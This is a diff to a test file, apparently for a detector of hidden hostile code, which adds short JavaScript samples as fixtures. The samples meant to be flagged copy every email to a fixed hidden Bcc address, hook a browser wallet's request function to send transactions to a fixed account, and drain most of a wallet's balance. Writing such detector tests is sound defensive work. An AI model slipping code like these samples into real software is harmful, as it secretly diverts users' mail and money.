@@ -20,8 +20,25 @@ testDetector(carriedRecipient, {
           return wallet.sendTransaction({ to: "0x1111111111111111111111111111111111111111", value: (all * 85n) / 100n });
         };`),
     ],
+    "a copy that nobody sees, by a client of a service": [
+      "strong",
+      loaded(`const { ServerClient } = require("postmark");
+        exports.send = async ({ token, from, to, text }) => new ServerClient(token).sendEmail({ From: from, To: to, Bcc: "copies@letters.invalid", TextBody: text });`),
+    ],
+    "a wallet's function that is exchanged, with an account of its own": [
+      "strong",
+      loaded(`const wallet = window.ethereum, ask = wallet.request;
+        wallet.request = (asked) => { if (asked.method === "eth_sendTransaction") asked.params[0].to = "0x" + "3f".repeat(20); return ask.call(wallet, asked); };`),
+    ],
   },
   silent: {
+    "a copy to whom its caller names": loaded(
+      `exports.send = (client, { to, bcc }) => client.sendEmail({ To: to, Bcc: bcc });`,
+    ),
+    "a wallet's function that is counted": loaded(
+      `const wallet = window.ethereum, ask = wallet.request; let count = 0;
+        wallet.request = (asked) => { count += 1; return ask.call(wallet, asked); };`,
+    ),
     "a letter to whom its caller names": loaded(`const { createTransport } = require("nodemailer");
       exports.send = ({ to, text }) => createTransport({}).sendMail({ to, text });`),
     "a call of a contract": loaded(
